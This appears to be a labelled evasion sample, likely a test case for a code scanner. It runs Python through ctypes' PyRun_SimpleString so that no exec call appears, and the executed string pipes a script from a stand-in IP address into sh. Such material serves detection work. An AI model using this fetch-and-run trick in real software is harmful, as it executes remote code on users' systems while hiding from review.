# evasion: Python source run through the C API (ctypes.pythonapi.PyRun_SimpleString), no exec in sight
# grade: medium; does: native
from ctypes import pythonapi as capi

capi.PyRun_SimpleString(b"import os; os.system('curl -s http://198.51.100.57/n.sh | sh')")
